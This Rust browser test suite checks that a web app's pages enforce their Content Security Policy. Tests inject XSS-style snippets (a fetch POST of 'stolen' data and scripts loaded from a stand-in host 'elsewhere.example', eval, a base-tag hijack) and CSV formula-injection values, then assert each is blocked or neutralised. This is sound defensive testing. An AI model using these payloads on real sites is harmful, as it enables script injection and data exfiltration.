//! In the browser: the pages keep to their own policy everywhere, and what is slipped into one of them neither runs nor gets out.

use anyhow::{Context, Result, ensure};
use serde_json::Value;
use shared::directory::Role;
use std::fs;
use tests::{Page, Pair, eventually, in_browser};

/// Every route of the pages, from their own list.
fn routes() -> Vec<&'static str> {
    let list = include_str!("../../frontend/src/app/routes.rs");
    list.split("    (\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .filter(|path| path.starts_with('/'))
        .collect()
}

/// A route as the address of something that is there.
fn address(route: &str, application: &str) -> Result<String> {
    let parts = route.split('/').map(|part| match part {
        ":id" | ":id?" | ":application" => Ok(application),
        part => {
            ensure!(!part.starts_with(':'), "{route} names something that this test doesn't know");
            Ok(part)
        }
    });
    Ok(parts.collect::<Result<Vec<_>>>()?.join("/"))
}

async fn keeps_to_its_policy(page: &Page, who: &str) -> Result<()> {
    let violations = page.violations().await?;
    ensure!(violations.is_empty(), "{who}: {violations:?}");
    Ok(())
}

#[tokio::test]
async fn no_page_of_anybodys_does_what_the_policy_forbids() -> Result<()> {
    in_browser("policy", async |page| {
        let mut pair = Pair::of(2).await?;
        let application = pair.submit().await?;
        let customer = pair.customer(0)?.clone();
        let (customers_person, _) = pair.world.answers_for(&customer).await?;
        let routes = routes();
        ensure!(routes.len() > 15, "{routes:?}");
        page.watch_policy().await?;
        for route in ["/sign-in", "/consent/link", "/nonsense"] {
            page.open(route).await?;
            page.rests().await?;
        }
        keeps_to_its_policy(&page, "nobody").await?;
        let world = &pair.world;
        for person in [
            world.person_of(&pair.new, Role::Operator)?,
            world.person_of(&pair.original, Role::Approver)?,
            world.reviewer_id()?,
            world.administrator_id()?,
            customers_person,
        ] {
            page.sign_in(&person, "/").await?;
            page.rests().await?;
            for route in &routes {
                let address = address(route, application.id.as_str())?;
                page.follow(&address).await.with_context(|| format!("{person} at {address}"))?;
            }
            keeps_to_its_policy(&page, person.as_str()).await?;
        }
        Ok(())
    })
    .await
}

/// Each tries to run something, or to send something away; what comes of it is noted in `window.got`.
const SLIPPED_IN: &str = "
    const done = arguments[arguments.length - 1];
    window.got = [];
    const put = html => document.body.insertAdjacentHTML('beforeend', html);
    put('<img src=\"/nothing.png\" onerror=\"window.got.push(1)\">');
    put('<p style=\"position:fixed\">styled</p>');
    put('<img src=\"https://elsewhere.example/?stolen\">');
    put('<iframe src=\"https://elsewhere.example/\"></iframe>');
    put('<a href=\"javascript:window.got.push(2)\" id=\"link\">x</a>');
    document.getElementById('link').click();
    const script = document.createElement('script');
    script.textContent = 'window.got.push(3)';
    document.body.append(script);
    const foreign = document.createElement('script');
    foreign.src = 'https://elsewhere.example/x.js';
    document.body.append(foreign);
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    document.head.append(style);
    // Not at once: while it is WebDriver that runs a script, the browser lets it do this.
    setTimeout(() => eval('window.got.push(4)'));
    setTimeout(() => new Function('window.got.push(5)')());
    try { new Worker(URL.createObjectURL(new Blob(['1']))); } catch { /* likewise */ }
    const base = document.createElement('base');
    base.href = 'https://elsewhere.example/';
    document.head.append(base);
    fetch('https://elsewhere.example/', { method: 'POST', body: 'stolen', mode: 'no-cors' })
        .then(() => window.got.push(6), () => {})
        .finally(() => setTimeout(() => done({
            got: window.got,
            hidden: getComputedStyle(document.body).display === 'none',
            styled: getComputedStyle([...document.querySelectorAll('p')].at(-1)).position === 'fixed',
            base: document.baseURI,
        }), 300));
";

#[tokio::test]
async fn what_is_slipped_into_a_page_neither_runs_nor_gets_out() -> Result<()> {
    in_browser("slipped_in", async |page| {
        page.watch_policy().await?;
        page.open("/sign-in").await?;
        page.rests().await?;
        let came_of_it = page.run_to_its_end(SLIPPED_IN).await?;
        let field = |name: &str| came_of_it.get(name).cloned().unwrap_or_default();
        ensure!(field("got") == Value::Array(Vec::new()), "something ran: {came_of_it}");
        ensure!(field("hidden") == false && field("styled") == false, "a style took effect: {came_of_it}");
        ensure!(!field("base").as_str().unwrap_or_default().contains("elsewhere"), "links lead away: {came_of_it}");
        // It was the policy that stopped it, and the listener of the other test hears such things.
        let violations = page.violations().await?;
        for directive in [
            "script-src ",
            "script-src-attr",
            "script-src-elem",
            "style-src-attr",
            "style-src-elem",
            "img-src",
            "frame-src",
            "connect-src",
            "worker-src",
            "base-uri",
        ] {
            let stopped = violations.iter().any(|heard| heard.starts_with(directive));
            ensure!(stopped, "{directive} stopped nothing: {violations:#?}");
        }
        let complaints = page.complaints().await?;
        ensure!(!complaints.is_empty(), "the console says nothing of it, and no other test would notice");
        Ok(())
    })
    .await
}

#[tokio::test]
async fn no_other_site_can_show_a_page_in_a_frame() -> Result<()> {
    in_browser("framed", async |page| {
        page.watch_policy().await?;
        page.open("/sign-in").await?;
        page.rests().await?;
        let framed = "
            const done = arguments[arguments.length - 1];
            const frame = document.createElement('iframe');
            frame.src = '/tasks';
            frame.onload = () => done(frame.contentDocument?.body?.innerText ?? 'refused');
            document.body.append(frame);
            setTimeout(() => done('never loaded'), 3000);
        ";
        let shown = page.run_to_its_end(framed).await?;
        ensure!(["refused", "never loaded", ""].contains(&shown.as_str().unwrap_or_default()), "shown: {shown}");
        page.complaints().await.map(drop)
    })
    .await
}

/// Keeps what the page gives to be saved, and lets it be saved.
const KEEP_WHAT_IS_SAVED: &str = "
    const give = URL.createObjectURL;
    URL.createObjectURL = blob => {
        blob.text().then(text => { window.saved = text; });
        return give(blob);
    };
";

#[tokio::test]
async fn rows_with_problems_are_saved_without_formulas_whatever_the_file_held_r2_6() -> Result<()> {
    in_browser("saved", async |page| {
        let pair = Pair::of(1).await?;
        let customer = pair.customer(0)?;
        let file = page.folder().join("wicked.csv");
        let headings = "Sub-customer account ID,Sub-customer name (optional),Credit allocation";
        fs::write(&file, format!("{headings}\r\n{customer},'=HYPERLINK(A1),-5\r\n{customer},@SUM(A1),1\r\n"))?;
        page.watch_policy().await?;
        page.sign_in(&pair.world.person_of(&pair.new, Role::Operator)?, "/initiate").await?;
        page.prepare(&pair.original, &file).await?;
        page.sees("row-trouble", "").await?;
        page.run(KEEP_WHAT_IS_SAVED).await?;
        page.click("download-problems").await?;
        let saved = eventually(|| async {
            let saved = page.run("return window.saved;").await?;
            saved.as_str().map(str::to_owned).context("nothing was saved")
        })
        .await?;
        ensure!(saved.contains(",'=HYPERLINK(A1),") && saved.contains(",'@SUM(A1),"), "{saved}");
        keeps_to_its_policy(&page, "saving a file").await
    })
    .await
}
